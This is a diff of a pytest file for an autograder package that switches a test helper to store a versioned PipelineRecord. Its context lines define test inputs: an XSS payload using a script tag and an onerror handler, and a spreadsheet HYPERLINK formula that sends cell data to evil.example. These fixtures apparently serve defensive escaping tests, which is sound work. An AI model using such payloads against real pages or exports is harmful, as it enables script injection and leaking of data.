@@ -10,6 +10,7 @@ from pathlib import Path
 import pytest
 
 from autograder import export, feedback, grade_submission, records, samples
+from autograder.results import PipelineRecord
 
 HTML = '"><script>alert(1)</script><img src=x onerror=alert(2)>'
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -33,9 +34,10 @@ def _course(tmp_path: Path, trusted: dict, notebooks: dict | None = None) -> Pat
     sub = records.submission_path(course, "hw5", "20260001")
     sub.mkdir(parents=True)
     (sub / "hw5.ipynb").write_text("{}")
-    records.store_record(course, "hw5", {
-        "student": "20260001", "assignment": "hw5", "digest": records.digest(sub),
-        "trusted": trusted, "autograde": {"notebooks": notebooks or {}}, "flags": []})
+    records.store_record(course, "hw5", PipelineRecord.from_dict({
+        "version": records.RECORD_VERSION, "student": "20260001", "assignment": "hw5",
+        "digest": records.digest(sub), "trusted": trusted,
+        "autograde": {"notebooks": notebooks or {}}, "flags": []}))
     return course
 
 
